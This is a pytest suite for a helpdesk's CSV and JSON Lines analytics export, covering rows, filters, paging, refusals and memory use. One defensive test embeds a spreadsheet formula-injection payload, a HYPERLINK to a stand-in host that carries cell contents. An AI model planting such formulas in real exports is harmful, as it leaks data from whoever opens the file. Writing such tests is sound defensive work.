"""Exports: every row against SQL over the raw tables, written here; and what spreadsheets must not run."""

import csv
import datetime as dt
import io
import json
import tracemalloc
from typing import Any
from uuid import uuid4

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from drf_spectacular.generators import SchemaGenerator
from hypothesis import given
from hypothesis import strategies as st

from analytics import exports
from analytics.exports import DANGEROUS, TABLES, What, as_csv, neutral
from helpdesk.accounts.models import Membership, Workspace
from helpdesk.accounts.tests.factories import TeamFactory, WorkspaceFactory
from portal.services.requests import rate_request
from tickets.events import SYSTEM
from tickets.models import Comment, Ticket
from tickets.services import assignment, base, conversation, editing, merging, status
from tickets.tests.api import Api, nothing_written, refused
from tickets.tests.factories import CategoryFactory, FieldFactory, make_agent, make_reply, make_ticket

HOUR = dt.timedelta(hours=1)
NOON = dt.datetime(2026, 3, 10, 12, 0, tzinfo=dt.UTC)
MARCH = "from=2026-03-01&to=2026-03-31"


@pytest.fixture
def maria(db: None) -> Membership:
    return make_agent(WorkspaceFactory(slug="acme", timezone="UTC"))


@pytest.fixture
def api(maria: Membership) -> Api:
    return Api(maria)


def got(api: Api, what: str, query: str = MARCH) -> bytes:
    """The body of an export."""
    answer = api.get(f"/tickets/analytics/export?what={what}&{query}")
    assert answer.status_code == 200, answer.content
    body: bytes = answer.getvalue()
    return body


def cells(body: bytes) -> list[list[str]]:
    """The rows of a CSV, as the standard library reads them."""
    return list(csv.reader(io.StringIO(body.decode(), newline=""), strict=True))


def objects(body: bytes) -> list[dict[str, Any]]:
    return [json.loads(line) for line in body.decode().split("\n") if line]


def ids(body: bytes) -> list[str]:
    return [one["id"] for one in objects(body)]


def sql(query: str, **values: Any) -> list[dict[str, Any]]:
    """What the database answers, each row as the JSON object that PostgreSQL makes of it."""
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT to_json(r)::text FROM ({query}) r", values)
        return [json.loads(text) for (text,) in cursor.fetchall()]


def make_history(maria: Membership) -> dict[str, Ticket]:
    """Tickets with all that can happen to them, some of it outside of March, some in the trash, some elsewhere."""
    workspace = maria.workspace
    team = TeamFactory(workspace=workspace, name="Billing; EU")
    category = CategoryFactory(workspace=workspace, name="Money")
    FieldFactory(workspace=workspace, key="order", label="Order")
    tickets: dict[str, Ticket] = {}
    for name, at in {
        "old": NOON - 30 * 24 * HOUR,
        "late": NOON + HOUR,
        "early": NOON,
        "merged": NOON + 2 * HOUR,
        "trashed": NOON + 3 * HOUR,
        "april": NOON + 30 * 24 * HOUR,
    }.items():
        tickets[name] = make_ticket(
            workspace,
            at,
            subject=f'{name}: "quoted", über; 東京',
            description="One\nTwo\r\nThree, “four”",
            requester_email=f"{name}@customers.example",
            priority="high" if name == "early" else "low",
        )
    early = tickets["early"]
    early = editing.update_ticket(
        ticket=early,
        changes={
            "category_id": category.pk,
            "team_id": team.pk,
            "tags": ["vip", "a,b"],
            "custom_fields": {"order": "A-1"},
        },
        actor=base.agent(maria),
        now=NOON + HOUR,
    )
    early = assignment.assign(ticket=early, assignee_id=maria.user_id, actor=SYSTEM, now=NOON + HOUR)
    make_reply(early, maria, NOON + 2 * HOUR, body="Done,\nsaid she.")
    make_reply(early, maria, NOON + 3 * HOUR, body="Not for customers", internal=True)
    gone = make_reply(early, maria, NOON + 3 * HOUR, body="Taken away")
    conversation.delete_comment(comment=gone, editor=maria, now=NOON + 4 * HOUR)
    early.refresh_from_db()
    early = status.change_status(ticket=early, to="resolved", actor=SYSTEM, now=NOON + 5 * HOUR)
    rate_request(ticket=early, contact=early.requester, rating=4, feedback='=Nice;\n"really"', now=NOON + 6 * HOUR)
    make_reply(tickets["old"], maria, NOON + HOUR, body="An answer in March to a ticket of February")
    make_reply(tickets["merged"], maria, NOON + 4 * HOUR, body="Moves along")
    make_reply(tickets["trashed"], maria, NOON + 4 * HOUR, body="In the trash")
    merging.merge(source=tickets["merged"], target_id=tickets["late"].pk, actor=base.agent(maria), now=NOON + 5 * HOUR)
    trashed = status.change_status(
        ticket=Ticket.unscoped.get(pk=tickets["trashed"].pk), to="resolved", actor=SYSTEM, now=NOON + 5 * HOUR
    )
    rate_request(ticket=trashed, contact=trashed.requester, rating=1, feedback="", now=NOON + 6 * HOUR)
    editing.trash(ticket=trashed, actor=base.agent(maria), now=NOON + 7 * HOUR)
    foreign = make_agent(WorkspaceFactory(slug="other"))
    make_reply(make_ticket(foreign.workspace, NOON), foreign, NOON + HOUR, body="Of somebody else")
    return tickets


def utc(column: str) -> str:
    """SQL of a time as the API writes it."""
    return f"""to_char(date_trunc('second', {column}) AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS"Z"')"""


OF_TICKET = "t.id AS ticket_id, '#' || t.number AS ticket_number"
SQL = {
    "tickets": f"""
SELECT t.id, '#' || t.number AS ticket_number, t.subject, t.description, t.status,
       t.status = 'open' AND t.first_assigned_at IS NULL AND t.first_response_at IS NULL AS is_new,
       t.priority, t.channel, t.requester_id, t.requester_email, t.requester_name, NULL AS organization,
       t.assignee_id, u.name AS assignee_name, t.team_id, m.name AS team, t.category_id, c.name AS category,
       coalesce((SELECT json_agg(g.name ORDER BY g.name) FROM ticket_tags x JOIN tickets_tag g ON g.id = x.tag_id
                 WHERE x.ticket_id = t.id), '[]') AS tags,
       {utc("t.created_at")} AS created_at, {utc("t.updated_at")} AS updated_at,
       {utc("t.first_assigned_at")} AS first_assigned_at, {utc("t.first_response_at")} AS first_response_at,
       {utc("t.resolved_at")} AS resolved_at, {utc("t.closed_at")} AS closed_at,
       {utc("t.last_message_at")} AS last_message_at, t.sla_missed, t.merged_into_id, t.external_id, t.custom_fields
FROM tickets t LEFT JOIN accounts_user u ON u.id = t.assignee_id LEFT JOIN accounts_team m ON m.id = t.team_id
LEFT JOIN ticket_categories c ON c.id = t.category_id
WHERE t.workspace_id = %(w)s AND t.trashed_at IS NULL AND t.created_at >= %(a)s AND t.created_at < %(b)s
ORDER BY t.created_at, t.id
""",
    "comments": f"""
SELECT c.id, {OF_TICKET}, c.author_type, coalesce(c.author_user_id, c.author_contact_id) AS author_id, c.author_name,
       c.is_internal, c.is_automatic, c.is_transcript, c.channel, c.body,
       {utc("c.created_at")} AS created_at, {utc("c.edited_at")} AS edited_at
FROM ticket_comments c JOIN tickets t ON t.id = c.ticket_id
WHERE t.workspace_id = %(w)s AND t.trashed_at IS NULL AND c.deleted_at IS NULL
  AND c.created_at >= %(a)s AND c.created_at < %(b)s
ORDER BY c.id
""",
    "activities": f"""
SELECT a.id, {OF_TICKET}, a.event, {utc("a.occurred_at")} AS occurred_at, {utc("a.recorded_at")} AS recorded_at,
       a.actor_kind AS actor_type, coalesce(a.actor_user_id, a.actor_contact_id) AS actor_id, a.actor_name, a.changes
FROM ticket_activities a JOIN tickets t ON t.id = a.ticket_id
WHERE t.workspace_id = %(w)s AND t.trashed_at IS NULL AND a.occurred_at >= %(a)s AND a.occurred_at < %(b)s
ORDER BY a.id
""",
    "ratings": f"""
SELECT s.id, {OF_TICKET}, s.contact_id AS customer_id, p.email AS customer_email, s.rating, s.feedback,
       {utc("s.resolved_at")} AS resolved_at, {utc("s.created_at")} AS created_at, {utc("s.updated_at")} AS updated_at
FROM ticket_satisfaction s JOIN tickets t ON t.id = s.ticket_id JOIN accounts_contact p ON p.id = s.contact_id
WHERE t.workspace_id = %(w)s AND t.trashed_at IS NULL AND s.created_at >= %(a)s AND s.created_at < %(b)s
ORDER BY s.id
""",
}
IN_MARCH = {"a": "2026-03-01T00:00:00Z", "b": "2026-04-01T00:00:00Z"}
HOW_MANY = {"tickets": 3, "comments": 4, "activities": 16, "ratings": 1}


def as_cell(value: Any) -> str:
    """What a spreadsheet shows of a JSON value."""
    if isinstance(value, str):
        return "'" + value if value[:1] in "=+-@" and value else value
    return (
        ""
        if value is None
        else json.dumps(value, ensure_ascii=False)
        if value not in (True, False)
        else str(value).lower()
    )


@pytest.mark.parametrize("what", list(What))
class TestTheRows:
    def test_equal_sql_over_the_tables_in_both_formats(self, api: Api, maria: Membership, what: str) -> None:
        make_history(maria)
        expected = sql(SQL[what], w=maria.workspace_id, **IN_MARCH)
        assert len(expected) == HOW_MANY[what]
        assert objects(got(api, what, f"{MARCH}&format=jsonl")) == expected
        head, *rows = cells(got(api, what))
        assert head == list(expected[0])
        found = [dict(zip(head, row, strict=True)) for row in rows]
        assert found == [{name: as_cell(value) for name, value in row.items()} for row in expected]

    def test_go_on_after_each_row_without_a_head(
        self, api: Api, maria: Membership, what: str, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        make_history(maria)
        monkeypatch.setattr(exports, "CHUNK", 2)
        for format in ("csv", "jsonl"):
            whole = got(api, what, f"{MARCH}&format={format}")
            rows = cells(whole)[1:] if format == "csv" else [list(row.values()) for row in objects(whole)]
            for n, row in enumerate(rows):
                rest = got(api, what, f"{MARCH}&format={format}&after={row[0]}")
                assert whole.endswith(rest)
                assert len(cells(rest) if format == "csv" else objects(rest)) == len(rows) - n - 1

    def test_are_described_column_by_column(self, what: str) -> None:
        document = SchemaGenerator().get_schema(request=None, public=True)
        operation = document["paths"]["/api/tickets/analytics/export"]["get"]
        for column in TABLES[What(what)].columns:
            assert f"- `{column.name}`: {column.meaning}" in operation["description"]
        assert set(operation["responses"]["200"]["content"]) == {"text/csv", "application/x-ndjson"}

    def test_are_none_in_an_empty_workspace(self, api: Api, what: str) -> None:
        assert cells(got(api, what)) == [TABLES[What(what)].names]
        assert got(api, what, f"{MARCH}&format=jsonl") == b""

    def test_of_another_workspace_are_no_place_to_go_on(self, api: Api, maria: Membership, what: str) -> None:
        make_history(maria)
        stranger = Api(make_agent(WorkspaceFactory()))
        own = ids(got(api, what, f"{MARCH}&format=jsonl"))[0]
        for unknown in (own, uuid4()):
            answer = stranger.get(f"/tickets/analytics/export?what={what}&{MARCH}&after={unknown}")
            refused(answer, 400, "after")

    def test_cost_two_queries_for_each_chunk(
        self, api: Api, maria: Membership, what: str, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        make_history(maria)
        monkeypatch.setattr(exports, "CHUNK", 2)
        count = len(ids(got(api, what, f"{MARCH}&format=jsonl")))
        with CaptureQueriesContext(connection) as queries:
            answer = api.get(f"/tickets/analytics/export?what={what}&{MARCH}")
            before = len(queries)
            pieces = iter(answer)
            assert next(pieces).startswith(b"id,")
            assert len(queries) == before  # the head is sent before any row is read
            rest = list(pieces)
        assert len(cells(b"".join(rest))) == count
        asked = len(queries) - before
        assert asked == count // 2 + 1 + len(rest)
        assert len(rest) == -(-count // 2)


class TestPeriodAndFilters:
    def test_days_are_those_of_the_timezone_asked_for(self, api: Api, maria: Membership) -> None:
        for hour in (21, 22, 23):  # Rome goes from +1 to +2 on the 29th
            make_ticket(maria.workspace, dt.datetime(2026, 3, 28, hour, 30, tzinfo=dt.UTC), subject=f"28th {hour}")
            make_ticket(maria.workspace, dt.datetime(2026, 3, 29, hour, 30, tzinfo=dt.UTC), subject=f"29th {hour}")
        body = got(api, "tickets", "from=2026-03-29&to=2026-03-29&timezone=Europe/Rome")
        head, *rows = cells(body)
        found = [(row[head.index("subject")], row[head.index("created_at")]) for row in rows]
        assert found == [
            ("28th 23", "2026-03-29T00:30:00+01:00"),
            ("29th 21", "2026-03-29T23:30:00+02:00"),
        ]
        told = objects(got(api, "tickets", "from=2026-03-29&to=2026-03-29&timezone=Europe/Rome&format=jsonl"))
        assert [one["created_at"] for one in told] == ["2026-03-28T23:30:00Z", "2026-03-29T21:30:00Z"]

    @pytest.mark.parametrize("what", list(What))
    def test_filters_look_at_the_tickets(self, api: Api, maria: Membership, what: str) -> None:
        tickets = make_history(maria)
        early = Ticket.unscoped.get(pk=tickets["early"].pk)
        everything = objects(got(api, what, f"{MARCH}&format=jsonl"))
        key = "id" if what == "tickets" else "ticket_id"
        own = [row for row in everything if row[key] == str(early.pk)]
        assert own
        for query in (
            "status=resolved",
            "priority=high",
            "assignee=me",
            f"team={early.team_id}",
            f"category={early.category_id}",
            "tag=vip",
            "requester=early@customers.example",
        ):
            assert objects(got(api, what, f"{MARCH}&format=jsonl&{query}")) == own, query
        assert got(api, what, f"{MARCH}&format=jsonl&assignee=me&priority=low") == b""

    def test_an_answer_in_the_period_counts_whenever_its_ticket_was_opened(self, api: Api, maria: Membership) -> None:
        make_history(maria)
        bodies = [one["body"] for one in objects(got(api, "comments", f"{MARCH}&format=jsonl"))]
        assert "An answer in March to a ticket of February" in bodies
        assert "Not for customers" in bodies
        assert not {"Taken away", "In the trash", "Of somebody else"} & set(bodies)

    def test_a_row_that_came_into_the_trash_still_says_where_to_go_on(self, api: Api, maria: Membership) -> None:
        first, second = (make_ticket(maria.workspace, NOON + n * HOUR) for n in range(2))
        editing.trash(ticket=first, actor=base.agent(maria), now=NOON + 3 * HOUR)
        assert ids(got(api, "tickets", f"{MARCH}&format=jsonl&after={first.pk}")) == [str(second.pk)]

    def test_tickets_of_one_moment_are_each_there_once(
        self, api: Api, maria: Membership, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(exports, "CHUNK", 2)
        made = [make_ticket(maria.workspace, NOON).pk for _ in range(7)]
        assert ids(got(api, "tickets", f"{MARCH}&format=jsonl")) == sorted(map(str, made))


class TestTheFile:
    def test_is_a_download_with_a_name_that_no_cache_keeps(self, api: Api, maria: Membership) -> None:
        for format, media_type in (("csv", "text/csv"), ("jsonl", "application/x-ndjson")):
            answer = api.get(f"/tickets/analytics/export?what=tickets&{MARCH}&format={format}")
            assert answer.streaming
            assert answer["Content-Type"] == f"{media_type}; charset=utf-8"
            name = f"acme-tickets-2026-03-01-2026-03-31.{format}"
            assert answer["Content-Disposition"] == f'attachment; filename="{name}"'
            assert answer["Cache-Control"] == "private, no-store"
            assert answer["X-Content-Type-Options"] == "nosniff"
            answer.getvalue()

    def test_has_a_byte_order_mark_where_one_is_asked_for(self, api: Api, maria: Membership) -> None:
        assert got(api, "tickets").startswith(b"id,")
        assert got(api, "tickets", f"{MARCH}&bom=true").startswith(b"\xef\xbb\xbfid,")
        assert got(api, "tickets", f"{MARCH}&bom=false") == got(api, "tickets")

    def test_is_the_same_for_every_role_and_every_key_that_reads(self, api: Api, maria: Membership) -> None:
        make_history(maria)
        whole = got(api, "comments")
        for role in ("light", "agent", "admin", "owner"):
            assert got(Api(make_agent(maria.workspace, role=role)), "comments") == whole


class TestRefusals:
    @pytest.mark.parametrize(
        ("query", "fields"),
        [
            ("", ["what"]),
            ("what=users", ["what"]),
            ("what=tickets&format=xlsx", ["format"]),
            ("what=tickets&bom=1", ["bom"]),
            ("what=tickets&bom=true&format=jsonl", ["bom"]),
            ("what=tickets&bom=true&after=0190aaaa-0000-7000-8000-000000000000", ["bom"]),
            ("what=tickets&after=5", ["after"]),
            ("what=tickets&after=0190aaaa-0000-7000-8000-000000000000", ["after"]),
            ("what=tickets&compare=previous", ["compare"]),
            ("what=tickets&interval=day", ["interval"]),
            ("what=tickets&page=2", ["page"]),
            ("what=tickets&columns=id", ["columns"]),
            ("what=tickets&status=gone", ["status"]),
            ("what=tickets&timezone=Mars/Base", ["timezone"]),
            ("what=tickets&from=2026-04-01&to=2026-03-01", ["to"]),
            ("what=x&format=x&bom=x&after=x&status=x&from=x", ["what", "format", "bom", "after", "status", "from"]),
        ],
    )
    def test_name_the_parameter(self, api: Api, query: str, fields: list[str]) -> None:
        with nothing_written():
            refused(api.get(f"/tickets/analytics/export?{query}"), 400, *fields)

    def test_an_id_of_other_rows_is_no_place_to_go_on(self, api: Api, maria: Membership) -> None:
        comment = make_reply(make_ticket(maria.workspace, NOON), maria, NOON)
        refused(api.get(f"/tickets/analytics/export?what=tickets&{MARCH}&after={comment.pk}"), 400, "after")

    def test_nobody_gets_in_without_a_token(self, db: None) -> None:
        refused(Api().get(f"/tickets/analytics/export?what=tickets&{MARCH}"), 401)

    def test_a_get_writes_nothing(self, api: Api, maria: Membership) -> None:
        make_history(maria)
        with nothing_written():
            for what in What:
                got(api, what)


class TestCells:
    @pytest.mark.parametrize("first", [*DANGEROUS, "\t", "\r", "\n", " =", "\u00a0@", "\u3000＋"])
    def test_csv_cells_are_neutralised(self, api: Api, maria: Membership, first: str) -> None:
        """A cell that a spreadsheet would run is text there; JSON Lines have it as it is."""
        text = f'{first}HYPERLINK("https://x.example/?q="&A1, "x")'
        row = make_ticket(maria.workspace, NOON)
        Ticket.unscoped.filter(pk=row.pk).update(
            subject=text, description=text, requester_name=text, custom_fields={"note": text}, external_id=text
        )
        head, cell = cells(got(api, "tickets"))
        shown = dict(zip(head, cell, strict=True))
        for name in ("subject", "description", "requester_name", "external_id"):
            assert shown[name] == "'" + text
        assert json.loads(shown["custom_fields"]) == {"note": text}
        (told,) = objects(got(api, "tickets", f"{MARCH}&format=jsonl"))
        assert told["subject"] == told["requester_name"] == text

    @given(st.text())
    def test_no_cell_begins_like_a_formula(self, text: str) -> None:
        shown = neutral(text)
        assert shown in (text, f"'{text}")
        assert not shown.lstrip().startswith(DANGEROUS)
        assert not shown.startswith(("\t", "\r", "\n"))

    @pytest.mark.parametrize("text", ["", "plain", "'quoted", "a=b", "1-2", "me@customers.example", "#1042", "{}"])
    def test_ordinary_text_stays(self, text: str) -> None:
        assert neutral(text) == text

    @given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=5))
    def test_come_back_from_a_reader_as_they_went_in(self, rows: list[list[str]]) -> None:
        """Quotes, commas, every kind of line break, whatever text there is."""
        rows = [[text.encode("utf-8", "replace").decode().replace("\0", "") for text in row] for row in rows]
        body = b"".join(as_csv(["a", "b"], [rows]))
        assert cells(body) == [["a", "b"], *[[neutral(text) for text in row] for row in rows]]
        assert body.endswith(b"\r\n")


def insert_tickets(workspace: Workspace, count: int, length: int) -> None:
    """That many tickets, one a minute, each with a description and a comment of that many letters."""
    like = make_ticket(workspace, NOON - 24 * HOUR)
    make_reply(like, make_agent(workspace), NOON - 24 * HOUR)
    with connection.cursor() as cursor:
        for table, copied in (("tickets", Ticket), ("ticket_comments", Comment)):
            values = {
                "id": "gen_random_uuid()",
                "number": "500000 + n",
                "created_at": "'2026-03-11T00:00:00Z'::timestamptz + n * interval '1 second'",
                "description": "repeat('x', %(length)s)",
                "body": "repeat('x', %(length)s)",
            }
            fields = [f for f in copied._meta.concrete_fields if not f.generated]
            names = ", ".join(f.column for f in fields)
            chosen = ", ".join(values.get(f.column, f"r.{f.column}") for f in fields)
            cursor.execute(
                f"INSERT INTO {table} ({names}) SELECT {chosen} FROM generate_series(1, %(count)s) n, "
                f"(SELECT * FROM {table} WHERE workspace_id = %(w)s LIMIT 1) r",
                {"w": workspace.pk, "count": count, "length": length},
            )


class TestSize:
    def test_twenty_thousand_rows_need_no_more_memory_than_a_chunk(self, api: Api, maria: Membership) -> None:
        insert_tickets(maria.workspace, 20_000, length=300)
        for what in ("tickets", "comments"):
            answer = api.get(f"/tickets/analytics/export?what={what}&{MARCH}&format=jsonl")
            tracemalloc.start()
            try:
                pieces = [len(piece) for piece in answer]
                peak = tracemalloc.get_traced_memory()[1]
            finally:
                tracemalloc.stop()
            assert len(pieces) >= 1 + 20_000 // exports.CHUNK
            assert peak < 12_000_000, f"{what}: {peak:,} bytes"  # all rows are 20 megabytes as text, more as objects

    def test_long_texts_are_read_a_few_at_a_time(self, api: Api, maria: Membership) -> None:
        insert_tickets(maria.workspace, 100, length=200_000)
        for what in ("tickets", "comments"):
            answer = api.get(f"/tickets/analytics/export?what={what}&{MARCH}&format=jsonl")
            pieces = [piece for piece in answer if piece]
            assert max(len(piece) for piece in pieces) < exports.PORTION * 1.2
            assert sum(piece.count(b"\n") for piece in pieces) >= 100
